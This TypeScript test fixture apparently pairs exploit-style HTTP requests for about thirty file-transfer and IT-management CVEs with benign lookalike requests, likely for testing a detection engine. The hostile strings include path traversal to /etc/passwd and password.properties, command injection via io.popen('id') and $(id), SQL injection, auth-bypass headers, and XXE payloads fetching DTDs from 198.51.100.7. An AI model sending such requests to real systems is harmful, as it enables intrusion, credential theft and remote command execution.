import type { Cases } from './cases.ts';

export const fileTransferRemote: Cases = {
  'CVE-2023-34362': [
    'POST /moveitisapi/moveitisapi.dll?action=m2\nX-siLock-Transaction: session_setvars\nX-siLock-SessVar0: MyUsername: Guest',
    'GET /humans.aspx?OrgID=1',
  ],
  'CVE-2023-0669': ['POST /goanywhere/lic/accept\n\nbundle=AAAA', 'GET /goanywhere/lic/terms'],
  'CVE-2024-0204': [
    'GET /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml',
    'GET /goanywhere/wizard/Welcome.xhtml',
  ],
  'CVE-2025-10035': [
    'POST /goanywhere/license/Unlicensed.xhtml/x?javax.faces.ViewState=a&GARequestAction=activate',
    'GET /goanywhere/license/Unlicensed.xhtml',
  ],
  'CVE-2024-4040': [
    'POST /WebInterface/function/?command=zip&c2f=a&path=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&names=/a',
    'POST /WebInterface/function/?command=getUserName&c2f=a',
  ],
  'CVE-2025-31161': [
    'GET /WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=1111\nAuthorization: AWS4-HMAC-SHA256 Credential=crushadmin/',
    'GET /WebInterface/function/?command=getUserList\nAuthorization: Basic YTpi',
  ],
  'CVE-2025-54309': [
    'POST /WebInterface/function/\nAS2-TO: \\crushadmin\n\ncommand=setUserItem&username=crushadmin&data_action=new',
    'POST /WebInterface/function/\n\ncommand=setUserItem&username=mara',
  ],
  'CVE-2024-50623': [
    'POST /Synchronization\nVLSync: Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;path=../../etc/passwd',
    'POST /sync\nVersion: 5',
  ],
  'CVE-2025-47812': [
    'POST /loginok.html\n\nusername=anonymous%00]]%0dlocal+h+%3d+io.popen("id")%0d--&password=',
    'POST /loginok.html\n\nusername=anonymous&password=',
  ],
  'CVE-2024-28995': [
    'GET /?InternalDir=/../../../../windows&InternalFile=win.ini',
    'GET /?InternalDir=/home&InternalFile=a.txt',
  ],
  'CVE-2024-28986': [
    'POST /helpdesk/WebObjects/Helpdesk.woa/ajax/1.7.23\n\n{"id":1,"method":"jsonpathparser","params":[{"javaClass":"a"}]}',
    'GET /helpdesk/WebObjects/Helpdesk.woa',
  ],
  'CVE-2024-28987': [
    'GET /helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets/\nAuthorization: Basic aGVscGRlc2tJbnRlZ3JhdGlvblVzZXI6ZGV2LUM0RjgwMjVFNw==',
    'GET /helpdesk/tickets/',
  ],
  'CVE-2020-10148': [
    'GET /api/settings/values/WebResource.axd.i18n.ashx?a=1&b=i18n.ashx',
    'GET /api/settings/values',
  ],
  'CVE-2024-1709': ['POST /SetupWizard.aspx/a\n\nx', 'GET /setup/wizard.aspx'],
  'CVE-2024-57727': [
    'GET /toolbox-resource/../resource1/../../configuration/serverconfig.xml',
    'GET /toolbox-resource/logo.png',
  ],
  'CVE-2025-34028': [
    'POST /commandcenter/deployWebpackage.do\n\ncommcellName=198.51.100.7&servicePack=../../../a&version=1',
    'GET /commandcenter/login.do',
  ],
  'CVE-2024-12356': [
    'GET /nw\nUpgrade: websocket\nSec-WebSocket-Protocol: ingredi support desk customer thin',
    'GET /nw\nUpgrade: websocket',
  ],
  'CVE-2026-1731': ['bytes:GET /nw\nremoteVersion: a[$(id)]\n', 'bytes:remoteVersion: 24.1'],
  'CVE-2021-27101': [
    "POST /courier/document_root.html\n\nkey=' union select 1",
    'GET /courier/tracking.html',
  ],
  'CVE-2023-30806': [
    'POST /rep/login\n\nclsMode=cls_mode_login%0Aid%0A&index=index&log_type=report&loginType=account',
    'POST /rep/login\n\nclsMode=cls_mode_login&loginType=account',
  ],
  'CVE-2023-26360': [
    'POST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=a&_cfclient=true\n\n_variables={"_metadata":{"classname":"i/../lib/password.properties"},"_variables":[]}',
    'GET /cf_scripts/scripts/ajax/a.js',
  ],
  'CVE-2023-29300': [
    "POST /CFIDE/adminapi/accessmanager.cfc?method=foo\n\nargumentCollection=<wddxPacket version='1.0'><struct type='acom.sun.rowset.JdbcRowSetImpla'/></wddxPacket>",
    "POST /feed\n\n<wddxPacket version='1.0'><string>a</string></wddxPacket>",
  ],
  'CVE-2023-29298': [
    'GET //CFIDE/adminapi/administrator.cfc?method=getBuildNumber',
    'GET /cfide-docs/adminapi',
  ],
  'CVE-2010-2861': [
    'GET /CFIDE/administrator/enter.cfm?locale=../../../../../lib/password.properties%00en',
    'GET /CFIDE/administrator/enter.cfm?locale=en',
  ],
  'CVE-2018-15961': [
    'POST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm\n\nx',
    'GET /cf_scripts/scripts/ajax/ckeditor/ckeditor.js',
  ],
  'CVE-2025-54253': ['GET /adminui/debug?debug=OGNL:1', 'GET /admin/debug?debug=1'],
  'CVE-2023-47246': [
    'POST /userentry?accountId=/../../../tomcat/webapps/a/&symbolName=a&base64UserName=YQ==\n\nx',
    'POST /userentry?accountId=acme',
  ],
  'CVE-2025-2775': [
    'POST /mdm/checkin\n\n<?xml version="1.0"?><!DOCTYPE cdl [<!ENTITY % a SYSTEM "http://198.51.100.7/a.dtd">%a;]>',
    'POST /mdm/checkin\n\n<plist/>',
  ],
  'CVE-2025-2776': [
    'POST /mdm/serverurl\n\n<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % a SYSTEM "http://198.51.100.7/b.dtd">%a;]>',
    'POST /mdm/serverurl\n\n<plist/>',
  ],
  'CVE-2025-2777': [
    'POST /lshw?osVer=a\n\n<?xml version="1.0"?><!DOCTYPE l [<!ENTITY % a SYSTEM "http://198.51.100.7/c.dtd">%a;]>',
    'POST /lshw?osVer=a\n\n<node id="pc-1"/>',
  ],
  'CVE-2024-40711': [
    'bytes:.NET\x01\x00\x00\x00\x00\x00SOAPAction Veeam.Backup.Model.CDbCryptoKeyInfo ObjRef',
    'bytes:Veeam.Backup.Agent 12.1',
  ],
  'CVE-2023-27350': ['GET /app?service=page/SetupCompleted', 'GET /app?service=page/Home'],
};
